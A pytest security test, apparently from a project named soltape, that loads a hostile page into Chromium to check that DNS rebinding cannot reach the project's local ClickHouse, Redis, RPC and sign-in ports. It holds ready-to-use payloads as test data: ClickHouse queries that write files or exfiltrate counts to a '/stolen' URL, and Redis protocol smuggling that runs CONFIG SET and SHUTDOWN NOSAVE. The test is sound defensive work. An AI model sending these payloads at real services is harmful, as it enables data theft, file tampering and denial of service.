"""A web page of a stranger, in a browser on this machine, against every port of `soltape up`.

Chromium takes the names of the stranger for addresses of this machine, as a page does that points
its name at 127.0.0.1 (DNS rebinding); one more stranger is on this machine, at another port.
"""

from __future__ import annotations

import json
import os
import re
from base64 import b64encode
from collections.abc import Iterator, Sequence
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any
from urllib.parse import urlsplit

import httpx
import psutil
import pytest
import redis
from playwright.sync_api import Browser, BrowserContext, StorageState
from playwright.sync_api import Error as PlaywrightError
from solders.hash import Hash
from solders.message import Message
from solders.pubkey import Pubkey
from solders.system_program import TransferParams, transfer
from solders.transaction import VersionedTransaction

from infra.chain import demo_wallets
from infra.clickhouse.client import connect as connect_clickhouse
from infra.settings import Settings
from tests.support.dashboard import STRANGER, Up
from tests.support.waiting import eventually

pytestmark = [pytest.mark.slow, pytest.mark.browser, pytest.mark.timeout(900)]

SCRIPT = Path(__file__).parent / "hostile" / "page.js"
MARK = "by_a_stranger"
PORTS_AT_ONCE = 4


class Stranger:
    """A server of pages, which notes what it is asked for."""

    def __init__(self) -> None:
        asked = self.asked = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                body = b"<!doctype html><title>nice</title><body>"
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port: int = self._server.server_address[1]
        Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def stranger() -> Iterator[Stranger]:
    server = Stranger()
    yield server
    server.close()


def family(up: Up) -> list[psutil.Process]:
    first = psutil.Process(up.pid)
    return [first, *first.children(recursive=True)]


def ports(up: Up) -> list[int]:
    """Return every port that anything of `soltape up` listens on; all are on loopback."""
    listening = [
        found.laddr
        for process in family(up)
        for found in process.net_connections(kind="tcp")
        if found.status == psutil.CONN_LISTEN
    ]
    assert {address.ip for address in listening} <= {"127.0.0.1", "::1", "::ffff:127.0.0.1"}
    return sorted({address.port for address in listening})


def texts(folder: Path, port: int, call: str) -> list[str]:
    """Return what systems would do something at, if they took it from a page."""
    away = f"http://127.0.0.1:{port}/stolen"
    return [
        f"INSERT INTO FUNCTION file('{folder}/{MARK}.csv', 'CSV', 'a String') VALUES ('x')",
        f"SELECT 1 INTO OUTFILE '{folder}/{MARK}.out'",
        f"CREATE TABLE soltape.{MARK} (a UInt8) ENGINE = Memory",
        f"SELECT * FROM url('{away}?' || (SELECT toString(count()) FROM soltape.swaps), 'CSV')",
        f"\r\nSET {MARK} 1\r\nCONFIG SET dir {folder}\r\nSHUTDOWN NOSAVE\r\n",
        f"*3\r\n$3\r\nSET\r\n${len(MARK)}\r\n{MARK}\r\n$1\r\n1\r\n",
        call,
    ]


class Purse:
    """A demo wallet, whose key is public, before the local chain."""

    def __init__(self, up: Up) -> None:
        self._rpc_url = up.addresses["RPC_ENDPOINT"]
        self._payer = demo_wallets.keypair(demo_wallets.PAYER)
        self._signed: list[str] = []

    def call(self) -> str:
        """Return a call that moves some of what it holds, each time another."""
        seller = Pubkey.from_bytes(demo_wallets.address(demo_wallets.SELLER))
        moved = TransferParams(
            from_pubkey=self._payer.pubkey(), to_pubkey=seller, lamports=1 + len(self._signed)
        )
        recent = Hash.from_string(self._ask("getLatestBlockhash", [])["value"]["blockhash"])
        message = Message.new_with_blockhash([transfer(moved)], self._payer.pubkey(), recent)
        transaction = VersionedTransaction(message, [self._payer])
        self._signed.append(str(transaction.signatures[0]))
        wire = b64encode(bytes(transaction)).decode()
        return _call("sendTransaction", [wire, {"encoding": "base64"}])

    def landed(self) -> int:
        """Return how many of the calls moved something."""
        statuses = self._ask("getSignatureStatuses", [self._signed])["value"]
        return sum(each is not None for each in statuses)

    def send(self, call: str) -> None:
        """Make a call as programs do."""
        assert "result" in self._answer(call)

    def _ask(self, method: str, params: list[Any]) -> Any:
        return self._answer(_call(method, params))["result"]

    def _answer(self, call: str) -> Any:
        headers = {"content-type": "application/json"}
        return httpx.post(self._rpc_url, content=call, headers=headers, timeout=60).json()


def _call(method: str, params: list[Any]) -> str:
    return json.dumps({"jsonrpc": "2.0", "id": 1, "method": method, "params": params})


@pytest.mark.parametrize("at", [STRANGER, "127.0.0.1"], ids=["another site", "this machine"])
def test_nothing_is_read_written_or_started(
    browser: Browser, up: Up, session: StorageState, stranger: Stranger, at: str
) -> None:
    before = sorted(process.pid for process in family(up))
    listening = ports(up)
    known = {int(port) for name, port in up.addresses.items() if "_PORT" in name}
    for name in ("RPC_ENDPOINT", "SIGNIN_ISSUER", "X402_FACILITATOR_URL"):
        known.add(urlsplit(up.addresses[name]).port or 0)
    assert known <= set(listening)
    purse = Purse(up)
    tickets = tickets_of(up)  # of pages that other tests opened
    assert len(listening) >= 9, listening
    visitor = browser.new_context(storage_state=session)  # which has opened the link before
    page = visitor.new_page()
    page.goto(f"http://{at}:{stranger.port}/")
    page.add_script_tag(content=SCRIPT.read_text())
    read = []
    for ports_at_once in batched(listening, PORTS_AT_ONCE):
        targets = [
            (host, port, texts(up.folder, stranger.port, purse.call()))
            for port in ports_at_once
            for host in ("127.0.0.1", STRANGER)
        ]
        tried = page.evaluate("attackAll", targets)
        assert min(map(len, tried)) > 30
        read += [
            (host, port, what, outcome)
            for (host, port, _), outcomes in zip(targets, tried, strict=True)
            for what, outcome in outcomes
            if outcome.startswith("read") or outcome == "loaded"
        ]
    assert read == []
    # A page whose own name leads here: of one origin with the port, were it answered. Each in a tab
    # of its own: one that shows an error interrupts what is opened in it next.
    addresses = [f":{port}/" for port in listening] + own_addresses(up)
    opened = {each: status_in_a_tab(visitor, f"http://{STRANGER}{each}") for each in addresses}
    assert {each for each, status in opened.items() if status is None} == without_http(up)
    assert min(status for status in opened.values() if status is not None) >= 400, opened
    visitor.close()
    assert not purse.landed()
    purse.send(purse.call())
    eventually(lambda: purse.landed() == 1)
    assert sorted(process.pid for process in family(up)) == before
    assert not [path for path in stranger.asked if "stolen" in path]
    nothing_is_written(up)
    assert tickets_of(up) <= tickets  # for none was asked with a cookie that counts


def batched(ports: Sequence[int], count: int) -> list[Sequence[int]]:
    return [ports[at : at + count] for at in range(0, len(ports), count)]


def status_in_a_tab(visitor: BrowserContext, address: str) -> int | None:
    """Return the status of what is at an address, None where that is no HTTP."""
    tab = visitor.new_page()
    try:
        answer = tab.goto(address, timeout=60_000)
    except PlaywrightError as error:
        if re.search("ERR_EMPTY_RESPONSE|ERR_INVALID_HTTP_RESPONSE", str(error)):
            return None
        raise
    finally:
        tab.close()
    return answer.status if answer else 0


def without_http(up: Up) -> set[str]:
    """Return the ports that speak no HTTP, or not that of pages."""
    found = [up.addresses[each] for each in ("REDIS_URL", "KAFKA_BOOTSTRAP", "GEYSER_ENDPOINT")]
    return {f"{re.findall(':[0-9]+', each)[-1]}/" for each in found}


def own_addresses(up: Up) -> list[str]:
    """Return what facilitator and identity provider answer programs: ports and paths."""
    found = [
        f":{urlsplit(up.addresses[name]).port}{path}"
        for name, path in (
            ("X402_FACILITATOR_URL", "/supported"),
            ("SIGNIN_ISSUER", "/.well-known/openid-configuration"),
            ("SIGNIN_ISSUER", "/jwks"),
        )
    ]
    assert {httpx.get(f"http://127.0.0.1{each}").status_code for each in found} == {200}
    return found


def settings_of(up: Up) -> Settings:
    names = {name.lower(): value for name, value in up.addresses.items()}
    return Settings(_env_file=None, soltape_data=up.folder, **names)


def tickets_of(up: Up) -> set[bytes]:
    settings = settings_of(up)
    with redis.Redis.from_url(settings.access_redis_url or settings.redis_url) as store:
        found: Any = store.keys("access:ticket:*")
        return {*found}


def nothing_is_written(up: Up) -> None:
    files = [name for _, _, names in os.walk(up.folder) for name in names]
    assert files
    assert not [name for name in files if MARK in name]
    settings = settings_of(up)
    clickhouse = connect_clickhouse(settings)
    tables = clickhouse.query("SELECT name FROM system.tables").result_rows
    clickhouse.close()
    assert tables
    assert not [name for (name,) in tables if MARK in name]
    with redis.Redis.from_url(settings.redis_url) as store:
        assert store.dbsize()
        assert not store.exists(MARK)
